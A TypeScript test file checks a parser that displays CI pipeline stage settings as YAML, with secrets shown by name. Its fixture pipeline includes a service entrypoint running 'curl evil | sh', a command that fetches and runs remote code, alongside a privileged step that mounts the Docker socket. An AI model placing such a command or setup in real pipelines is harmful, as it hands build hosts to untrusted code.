import { expect, test } from 'vitest'
import { readSettings } from './settings-text.ts'

const file = `kind: pipeline
type: docker
name: release
platform: {os: linux, arch: arm64}
x-ship: &ship
  repo: acme/app
  password: {from_secret: docker_password}
steps:
- name: ship
  image: plugins/docker
  privileged: true
  environment: {MODE: fast}
  settings:
    <<: *ship
    tags: [1.10, "latest: yes"]
    build_args: ["A=1\\nB=2"]
  volumes:
  - {name: socket, path: /var/run/docker.sock}
- {name: test, image: node, commands: [npm test]}
services:
- name: db
  image: postgres:17
  environment: {POSTGRES_PASSWORD: {from_secret: db_password}}
  entrypoint: [/bin/sh, -c, "curl evil | sh"]
volumes:
- name: socket
  host: {path: /var/run/docker.sock}
image_pull_secrets: [dockerconfig]
---
kind: pipeline
type: exec
name: quick
platform: {os: linux}
steps:
- {name: a, commands: [make], settings: {x: 1}, failure: ignore}
services: [{name: s, image: x}]
`

test('the settings of a stage besides its commands are shown as YAML, with secrets by name', () => {
  const [release] = readSettings(file)
  expect(release?.text.split('\n')).toEqual([
    'platform:',
    '  os: linux',
    '  arch: arm64',
    'x-ship:',
    '  repo: acme/app',
    '  password:',
    '    from_secret: docker_password',
    'volumes:',
    '  - name: socket',
    '    host:',
    '      path: /var/run/docker.sock',
    'image_pull_secrets:',
    '  - dockerconfig',
  ])
  expect(release?.steps[0]?.split('\n')).toEqual([
    'privileged: true',
    'settings:',
    '  repo: acme/app',
    '  password:',
    '    from_secret: docker_password',
    '  tags:',
    '    - 1.10',
    '    - "latest: yes"',
    '  build_args:',
    '    - "A=1\\nB=2"',
    'volumes:',
    '  - name: socket',
    '    path: /var/run/docker.sock',
  ])
  expect(release?.steps[1]).toBe('')
  expect(release?.services.map(({ doc, text }) => [doc.name, doc.image, doc.environment, text])).toEqual([
    [
      'db',
      'postgres:17',
      { POSTGRES_PASSWORD: { from_secret: 'db_password' } },
      'entrypoint:\n  - /bin/sh\n  - "-c"\n  - "curl evil | sh"',
    ],
  ])
})

test('of a pipeline of type exec only what counts there', () => {
  const [, quick] = readSettings(file)
  expect(quick).toEqual({ text: 'platform:\n  os: linux', steps: ['failure: ignore'], services: [] })
})

test('a text is bounded, however anchors multiply it', () => {
  const settings = `{${Array.from({ length: 200 }, (_, index) => `k${index}: *n`).join()}}`
  const many = `kind: pipeline\nname: &n ${'x'.repeat(500)}\nsteps:\n- {name: a, image: b, settings: ${settings}}\n`
  const text = readSettings(many)[0]?.steps[0] ?? ''
  expect(text.length).toBeLessThan(21_000)
  expect(text.endsWith('…')).toBe(true)
})

test('lists of maps and of lists begin beside their dash', () => {
  const settings = `
    targets:
    - {name: x, env: {A: b, C: [1, {k: v, l: w}]}, last: 2}
    - name: y
    - [[1, 2], {z: 3}]
    - {}
    - []
    -
    none: {}
    empty: []
`
  const [stage] = readSettings(
    `kind: pipeline\ntype: docker\nname: a\nsteps:\n- name: s\n  image: i\n  settings:${settings}`,
  )
  expect(stage?.steps[0]?.split('\n')).toEqual([
    'settings:',
    '  targets:',
    '    - name: x',
    '      env:',
    '        A: b',
    '        C:',
    '          - 1',
    '          - k: v',
    '            l: w',
    '      last: 2',
    '    - name: y',
    '    - - - 1',
    '        - 2',
    '      - z: 3',
    '    - {}',
    '    - []',
    '    -',
    '  none: {}',
    '  empty: []',
  ])
})
